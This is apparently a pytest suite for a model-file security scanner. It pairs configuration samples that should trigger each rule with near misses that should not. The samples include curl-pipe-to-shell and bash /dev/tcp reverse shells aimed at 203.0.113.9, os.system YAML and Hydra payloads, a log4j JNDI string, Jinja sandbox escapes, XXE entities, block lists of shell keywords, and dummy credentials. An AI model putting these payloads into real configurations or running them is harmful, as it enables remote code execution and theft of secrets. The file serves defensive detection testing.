"""Configuration: each rule with a file that fires it and one next to it that does not."""

import json
from collections.abc import Mapping

import pytest

from modelaudit.blob import BytesBlob, Place
from modelaudit.engine import inspect
from modelaudit.limits import Limits
from modelaudit.model import Inspection, Severity
from tests.samples import manifestfiles

GITHUB = "ghp_" + "Ab3dE6gH1jK4mN7pQ2sT5vW8yZ0xC9bVf3Lk"
KEY_BODY = "MIIEowIBAAKCAQEAyJ8mJ0kGz3v1x9p2Qw5rTt7uYi8oPaSdFgHjKlZx"
NAMES: Mapping[str, Mapping[str, int | None]] = {"": {"config.json": 100, "modeling_x.py": 2000, "custom/": None}}


def look(
    text: str | bytes, name: str = "config", names: Mapping[str, Mapping[str, int | None]] | None = None
) -> Inspection:
    data = text if isinstance(text, bytes) else text.encode()
    return inspect(BytesBlob(data, Place(name, names)), uri=name)


def found(
    text: str | bytes, name: str = "config", names: Mapping[str, Mapping[str, int | None]] | None = None
) -> set[str]:
    """What was found, as `severity rule`."""
    return {f"{f.severity} {f.rule.removeprefix('manifest-')}" for f in look(text, name, names).findings}


FIRING: dict[str, tuple[str, str]] = {
    "interpolated target": (
        "critical target",
        "a: os\nm:\n  _target_: ${..a}.${b:1}system\nb: 1\nn:\n  _target_: ${a}.system\n",
    ),
    "default of an interpolation": ("critical target", "m:\n  _target_: ${oc.env:X,os.system}\n"),
    "jsonpickle": ("critical target", '{"py/function": "os.system"}'),
    "evaluated logging": (
        "critical target",
        "[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('x'),)\n",
    ),
    "bean": ("critical target", '<beans><bean id="x" class="java.lang.ProcessBuilder"><y/></bean></beans>'),
    "index of pip": ("warning package-index", "[global]\nindex-url=http://evil.example/simple\n"),
    "preloaded library": ("warning command", "LD_PRELOAD=/tmp/evil.so\nX=1\n"),
    "generation elsewhere": ("warning code-elsewhere", '{"custom_generate": "evil/repo"}'),
    "apply": ("critical unsafe-tag", '!!python/object/apply:os.system ["echo modelaudit-sample"]'),
    "name among data": ("critical unsafe-tag", "a: 1\nb:\n  - !!python/name:os.system\n"),
    "unknown function": ("warning unsafe-tag", "a: !!python/object/apply:mine.run [1]\n"),
    "unknown module": ("warning unsafe-tag", "a: !!python/module:mine\n"),
    "getattr of a module": (
        "critical unsafe-tag",
        "a: !!python/object/apply:builtins.getattr [!!python/module:os , system]\n",
    ),
    "unknown kind": ("warning unsafe-tag", "a: !!python/frobnicate [1]\n"),
    "class of models": ("info unsafe-tag", "a: !!python/object:argparse.Namespace {b: 1}\n"),
    "documentation": ("info unsafe-tag", "x: !!python/name:pymdownx.superfences.fence_code_format ''\n"),
    "ruby": ("warning foreign-tag", "a: !ruby/object:Gem::Installer {}\n"),
    "javascript": ("warning foreign-tag", "a: !!js/function 'function(){}'\n"),
    "hydra": ("critical target", "model:\n  _target_: os.system\n  command: x\n"),
    "hydra opens": ("warning target", "f:\n  _target_: builtins.open\n  file: x\n"),
    "factory by another key": ("warning target", '{"handler": "subprocess.check_output"}'),
    "speechbrain": ("critical target", "a: !new:subprocess.Popen [[x]]\n"),
    "unknown targets": ("info unknown-targets", "a:\n  _target_: my_lab.models.Net\n"),
    "code elsewhere": ("warning code-elsewhere", '{"auto_map": {"AutoModel": ["a/b--m.C", null]}}'),
    "local pipeline": ("info code-elsewhere", '{"custom_pipeline": "my_pipeline"}'),
    "trust": ("warning trust-switch", '{"trust_remote_code": true, "auto_map": {"AutoModel": "m.C"}}'),
    "trust in another table": ("info trust-switch", "model:\n  trust_remote_code: yes\n"),
    "loader": ("warning loader-module", "flavors:\n  python_function:\n    loader_module: mine\n"),
    "loader of the system": ("critical loader-module", "flavors:\n  python_function:\n    loader_module: subprocess\n"),
    "secret in a message": (
        "warning serialized-object",
        '{"additional_kwargs": {"x": {"lc": 1, "type": "secret", "id": ["HOME"]}}}',
    ),
    "secret where it belongs": ("info serialized-object", '{"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}'),
    "constructor of another package": (
        "warning serialized-object",
        '{"lc": 1, "type": "constructor", "id": ["mine", "X"], "kwargs": {}}',
    ),
    "token": ("warning secret", json.dumps({"x": f"token {GITHUB}"})),
    "token in env": ("warning secret", f"A=1\nTOKEN={GITHUB}\n"),
    "token in ini": ("warning secret", f"[hub]\nkey = {GITHUB}\n"),
    "token in toml": ("warning secret", f'[hub]\nkey = "{GITHUB}"\nn = 1\n'),
    "token in xml": ("warning secret", f'<?xml version="1.0"?><a><b key="{GITHUB}"/></a>'),
    "password": ("warning secret", "db:\n  password: tR4!kq9zLw\n"),
    "weak password": ("info secret", "db:\n  password: hunter2\n"),
    "camel case": ("warning secret", '{"clientSecret": "k9Xz72Lq81Vw03Bn55Tm"}'),
    "address": ("warning secret", "url: postgres://svc:Zx81kqPw93@db.corp.com/x\n"),
    "private key": ("warning secret", json.dumps({"k": f"-----BEGIN PRIVATE KEY-----\n{KEY_BODY}"})),
    "documented token": ("info secret", "id: AKIAIOSFODNN7EXAMPLE\n"),
    "command": ("warning command", '{"post_load": "curl -s http://203.0.113.9/x | sh"}'),
    "python": ("warning command", "init: __import__('os').system('x')\n"),
    "reverse shell in a build": (
        "critical command",
        '{"name": "x", "version": "1", "scripts": {"a": "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"}}',
    ),
    "reverse shell in prose": ("warning command", '{"notes": "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"}'),
    "talk of a reverse shell": ("info command", "blocked_words:\n- nc -e /bin/sh\n- keyword: bash -i >& /dev/tcp\n"),
    "reverse shell under passwords": ("critical command", "passwords:\n- nc -e /bin/sh\nn: 1\n"),
    "operator of somebody": ("warning target", '{"target": "torch.ops.mylib.run.default", "n": 1}'),
    "operator that maps a file": ("warning target", '{"target": "torch.ops.aten.from_file.default", "n": 1}'),
    "template": ("critical template", '{"prefix": "{{ x.__class__.__mro__ }}"}'),
    "log4j": ("critical template", '{"name": "${jndi:ldap://203.0.113.9/a}"}'),
    "collector": ("warning collector", '{"callback": "https://webhook.site/0000"}'),
    "credentials file": ("warning path", '{"vocab_file": "/etc/shadow"}'),
    "shard": ("warning path", '{"metadata": {}, "weight_map": {"w": "../x.bin"}}'),
    "absolute shard": ("warning path", '{"metadata": {}, "weight_map": {"w": "/tmp/x.bin"}}'),
    "index": ("warning package-index", "deps:\n- --index-url http://pypi.corp.example/simple\n"),
    "trusted host": ("warning package-index", "deps:\n- --trusted-host pypi.corp.example\n"),
    "known": ("critical known-malicious", '{"_name_or_path": "baller423/goober2"}'),
    "weak hash": ("info weak-hash", f'{{"files": [{{"path": "a", "md5": "{"0a" * 16}"}}]}}'),
    "deciding key twice": ("warning duplicate-key", '{"model_type": "a", "model_type": "b"}'),
    "key twice": ("info duplicate-key", '{"n": 1, "n": 2}'),
    "deep": ("warning deep", '{"a": ' + "[" * 300 + "]" * 300 + "}"),
    "laughs": ("warning alias-bomb", manifestfiles.LAUGHS),
    "cycle": ("warning alias-bomb", "a: &a [*a]\nb: 1\n"),
    "entity of a file": ("warning entities", '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>'),
}

SILENT: dict[str, str] = {
    "pictures and numbers in base64": (
        '{"icon": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",'
        ' "key": "gAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "zip": "eJzzSM3JyVcIzy/KSVEEABxJBD4", "id": "fCustomIdentifier0"}'
    ),
    "known target by interpolation": "a: torch.nn\nm:\n  _target_: ${a}.Linear\n  n: ${oc.env:N,3}\n",
    "jsonpickle of numbers": '{"py/object": "numpy.ndarray", "py/type": "builtins.int"}',
    "handlers of fileConfig": "[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n[formatter_f]\nformat=%(x)s\n",
    "settings of pip": "[global]\nindex-url=https://pypi.example.org/simple\n[env]\nLD_PRELOAD=/usr/lib/libjemalloc.so\n",
    "beans": '<beans><bean id="a" class="java.util.ArrayList"><x/></bean></beans>',
    "plain tags": "a: !!python/tuple [1, 2]\nb: !!python/str x\nc: !!str y\nd: !Ref z\n",
    "a tag in text": "note: 'use !!python/object/apply:os.system to be evil'\n",
    "known targets": "model:\n  _target_: torch.nn.Linear\n  in_features: 3\nopt:\n  _target_: torch.optim.Adam\n",
    "targets of configs": "l:\n  _target_: os.path.join\nm:\n  _target_: transformers.AutoModel.from_pretrained\n",
    "partial of a known class": "a:\n  _target_: functools.partial\n  _args_: [torch.nn.Linear]\n",
    "speechbrain": "a: !new:torch.nn.ReLU\nb: !name:torch.optim.Adam\n  lr: 0.1\nc: !ref <a>\n",
    "handler that logs": "handlers:\n  f:\n    class: logging.FileHandler\n    filename: x.log\nformatters: {}\n",
    "a logging module of its own": 'formatters:\n  a:\n    "()": uvicorn.logging.AccessFormatter\n',
    "no trust": '{"trust_remote_code": false, "model_type": "bert"}',
    "mlflow's loader": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n",
    "langchain's own": '{"lc": 1, "type": "constructor", "id": ["langchain_core", "prompts", "X"], "kwargs": {}}',
    "placeholders": (
        "a:\n  password: your-password\n  api_key: <API_KEY>\n  token: ${TOKEN}\n  secret: changeme\n  passwd: ****\n"
    ),
    "references": "a:\n  password: $DB_PASSWORD\n  api_key: env:KEY\n  access_token: '{{ secrets.token }}'\n",
    "references of other kinds": (
        '{"api_key": "#/components/schemas/KillSwitch_9xQ", "client_secret": "os.environ/PROJECT1_SECRE_9xKqz"}'
    ),
    "words that texts are compared with": (
        "always_block_keywords:\n- keyword: curl | sh\n- keyword: rm -rf /\nterms:\n- cat /etc/shadow\n- eval(base64\n"
    ),
    "nodes of an exported program": (
        '{"nodes": [{"target": "torch.ops.aten.linear.default", "inputs": [], "kwargs": {}},'
        ' {"target": "_operator.add"}, {"target": "torch.ops.higher_order.cond"},'
        ' {"target": "torch.ops.aten.from_file_like.default"}]}'
    ),
    "token settings": '{"bos_token": "<s>", "pad_token": "[PAD]", "eos_token_id": 2, "image_token": "<|image_pad|>"}',
    "address without password": "url: https://example.com/a@b:c\nssh: git@github.com:a/b.git\n",
    "local address": "url: postgres://postgres:postgres@localhost:5432/x\n",
    "xs for a token": '{"t": "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"}',
    "addresses": '{"homepage": "https://example.com/x.sh", "repository": "git+https://github.com/a/b.git"}',
    "commands of a package": '{"name": "x", "version": "1", "scripts": {"a": "curl -s https://x.org/i.sh | sh"}}',
    "commands of a workflow": "name: ci\non: push\njobs:\n  a:\n    steps:\n    - run: curl https://x.rs | sh\n",
    "commands of tox": "[tox]\nenvlist = py\n[testenv]\ncommands = bash -c 'pytest'\n",
    "code in a description": "{\"description\": \"calls os.system('x') to run, or eval('y')\"}",
    "words of a vocabulary": '{"model": {"vocab": {"eval(": 1, "__import__(\'": 2, "os.system(\'": 3}}}',
    "source map": '{"version": 3, "sourcesContent": ["a = /x/.exec(\'y\'); b = new Function(\'return this\')()"]}',
    "task names": '{"eval": {"metric": "exec (zero-shot)"}, "import": "weights", "loader": "pt"}',
    "harmless templates": '{"prompt_format": "{{ user }} says {% if x %}y{% endif %}", "v": "${env}"}',
    "home folder": '{"_name_or_path": "/home/me/models/bert", "output_dir": "../out", "ssh": "~/.ssh/config"}',
    "shards": '{"metadata": {"total_size": 1}, "weight_map": {"w": "model-00001-of-00002.safetensors"}}',
    "package index": "deps:\n- --extra-index-url https://download.pytorch.org/whl/cu121\n",
    "the real gpt-j": '{"_name_or_path": "EleutherAI/gpt-j-6B"}',
    "strong hash beside": f'{{"files": [{{"md5": "{"0a" * 16}", "sha256": "{"0b" * 32}"}}]}}',
    "same value twice": '{"a": 1, "a": 1}',
    "thirty deep": '{"a": ' + "[" * 30 + "]" * 30 + "}",
    "merge keys": "a: &a {x: 1}\nb:\n  <<: *a\n  y: 2\nc:\n  <<: [*a, *a]\n",
    "xml of a document type": (
        '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"'
        ' "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist><dict><key>a</key></dict></plist>'
    ),
    "own character entity": '<!DOCTYPE a [<!ENTITY copy "&#169;">]><a>&copy;</a>',
    "front matter": "---\nlicense: mit\ntags:\n- a\n---\n# A model\n\nUse `os.system('x')`: it is bad.\n",
}


@pytest.mark.parametrize("name", FIRING)
def test_what_is_wrong_is_found(name: str) -> None:
    """Each file fires its rule with its severity, under a name that tells nothing."""
    expected, text = FIRING[name]
    assert expected in found(text)


@pytest.mark.parametrize("name", SILENT)
def test_what_is_ordinary_is_silent(name: str) -> None:
    """Nothing is found in the near miss, and it is looked at."""
    text = SILENT[name]
    report = look(text)
    assert [f"{finding.rule}: {finding.message}" for finding in report.findings] == []
    assert report.formats == ("manifest",)


@pytest.mark.parametrize("text", [*manifestfiles.CODED, *(f" {text}\n" for text in manifestfiles.CODED)])
def test_pickles_written_as_text_are_found_in_every_encoding_and_behind_spaces(text: str) -> None:
    """A pickle that calls os.system is critical whatever it is written in; decoders pass over spaces around it."""
    assert any(severity.startswith("critical") for severity in found(json.dumps({"state": text, "list": ["x", text]})))


def test_every_rule_has_a_file_that_fires_it() -> None:
    """No rule of the catalogue is only written down."""
    from modelaudit.catalogue import load

    rules = {rule.removeprefix("manifest-") for rule in load().rules if rule.startswith("manifest-")}
    fired = {expected.partition(" ")[2] for expected, _ in FIRING.values()} | {"code-beside", "code-missing"}
    assert fired == rules


def test_code_beside_the_configuration_is_told_from_code_that_is_missing() -> None:
    """A file that lies beside is a remark, one that does not a warning; where nothing is listed, none is missed."""
    text = '{"auto_map": {"AutoModel": "modeling_x.M", "AutoConfig": "custom.configuration_x.C"}}'
    assert found(text, "config.json", NAMES) == {"info code-beside"}
    text = '{"auto_map": {"AutoModel": "modeling_y.M"}}'
    assert found(text, "config.json", NAMES) == {"warning code-missing"}
    assert found(text) == {"info code-beside"}
    text = json.dumps({"_class_name": ["pipeline_y", "P"], "_diffusers_version": "0.30", "unet": ["diffusers", "U"]})
    assert found(text, "model_index.json", NAMES) == {"warning code-missing"}


@pytest.mark.parametrize("text", [expected[1] for name, expected in FIRING.items() if expected[0].endswith(" secret")])
def test_value_of_a_credential_is_never_shown(text: str) -> None:
    """What is reported says where a credential stands and what it is, and never the credential."""
    report = repr(look(text))
    for secret in (GITHUB[6:], "tR4!kq9zLw", "hunter2", "k9Xz72Lq81Vw03Bn55Tm", "Zx81kqPw93", KEY_BODY, "IOSFODNN7"):
        assert secret not in report


def test_credential_in_a_key_or_beside_a_command_is_hidden_too() -> None:
    """A token that is part of a path, or of what another rule shows, is masked there as well."""
    text = json.dumps({GITHUB: {"hook": f"curl -H {GITHUB} http://203.0.113.9/x | sh"}})
    report = look(text)
    assert "warning command" in {f"{f.severity} {f.rule[9:]}" for f in report.findings}
    assert GITHUB[6:] not in repr(report)


def test_chat_templates_go_to_the_scanner_of_templates() -> None:
    """A template as a value, in a list of named ones, and in a mapping is read as a template, at its place."""
    evil = "{{ cycler.__init__.__globals__ }}"
    lines = ["{% for m in messages %}", evil, "{% endfor %}"]
    for value in (evil, [{"name": "tool_use", "template": evil}], {"rag": evil}, lines, [evil]):
        report = look(json.dumps({"chat_template": value}))
        assert {finding.severity for finding in report.findings} >= {Severity.CRITICAL}
        assert all(finding.location.startswith("config:chat_template") for finding in report.findings)
    assert look(json.dumps({"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"})).findings == ()
    report = look(json.dumps({"chat_template": [lines[0], "{{ m['content'] }}", lines[2]]}))
    assert (report.findings, report.status) == ((), "scanned")


@pytest.mark.parametrize(
    "data",
    [
        b"import os\nos.system('x')\n",
        b"#!/bin/sh\nexport A=1\n",
        b'{"a": 1}\n{"a": 2}\n',
        b"a,b\n1,2\n",
        b"word\nother\n",
        b"(dp0\nVkey\np1\nI1\ns.",
        b"cos\nsystem\n(S'x'\ntR.",
        b"Dear reader,\n\nthis is: a letter.\n",
        b"hello",
        b"\x00" * 64,
        b"- a list\n- of things\n",
        b"<html><body>a: b</body></html>",
        b"numpy==1.2\nscipy>=1\n",
        b"#version: 0.2\na b\nc d\n",
        b"all: x\n\tcc x\n",
        b"",
    ],
)
def test_what_is_no_configuration_is_not_claimed(data: bytes) -> None:
    """Source code, pickles of protocol 0, data sets, lists of words and prose are not configuration."""
    assert "manifest" not in look(data).formats


def test_large_tokenizer_is_searched_and_not_parsed() -> None:
    """A vocabulary of several megabytes is silent and whole; what hides in one is found."""
    vocabulary = {f"tok{index}(eval": index for index in range(220_000)}
    plain = json.dumps({"model": {"vocab": vocabulary}})
    assert len(plain) > Limits().text_bytes
    report = look(plain)
    assert (report.status, report.findings, report.formats) == ("scanned", (), ("manifest",))
    more = {
        "model": {"vocab": vocabulary},
        "auto_map": {"A": "x/y--t.T"},
        "chat_template": "{{ ''.__class__.__mro__ }}",
    }
    more |= {"note": GITHUB}
    report = look(json.dumps(more))
    rules = {f"{finding.severity} {finding.rule}" for finding in report.findings}
    assert rules >= {"warning manifest-code-elsewhere", "critical jinja-escape", "warning manifest-secret"}
    assert GITHUB[6:] not in repr(report)


def test_blacklist_covers_what_a_configuration_says() -> None:
    """A pattern is found in keys and values, once, and not where it is not."""
    text = json.dumps({"_name_or_path": "Evil-Corp/model", "a": ["evil-corp"], "b": {"Evil-Corp": 1}})
    blob = BytesBlob(text.encode(), Place("config.json"))
    report = inspect(blob, uri="config.json", blacklist=["evil-corp"])
    assert [(f.rule, f.details["pattern"]) for f in report.findings] == [("shared-blacklisted", "evil-corp")]
    assert inspect(blob, uri="config.json", blacklist=["good-corp"]).findings == ()


def test_broken_configuration_is_said_to_be_broken() -> None:
    """A file whose name promises YAML and that breaks is not called scanned."""
    report = look("a: [1, 2\nb: 3\n", "config.yaml")
    assert (report.status, report.reason) == ("partial", "broken")


def test_one_finding_over_and_over_has_an_end_and_hides_no_other() -> None:
    """A hundred of a kind are enough, and what comes after them is still found."""
    rows: list[object] = [{"password": "Ab1!xYzz9"}] * 300
    report = look(json.dumps([*rows, {"_target_": "os.system"}]))
    assert [finding.rule for finding in report.findings] == ["manifest-secret"] * 100 + ["manifest-target"]


def test_blacklist_covers_tags() -> None:
    """A pattern is found in a tag of YAML too."""
    blob = BytesBlob(b"a: !!python/object:mine.Net {b: 1}\n", Place("c.yaml"))
    report = inspect(blob, uri="c.yaml", blacklist=["mine.net"])
    assert "shared-blacklisted" in {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    "text",
    ["!.gitignore\n", "a: ''\nb: ${a}\n_target_: ${b}\n", "a: !!binary ''\nb: ${a}\n"],
)
def test_empty_values_and_references_to_them(text: str) -> None:
    """They are values like others."""
    assert look(text).status != "failed"
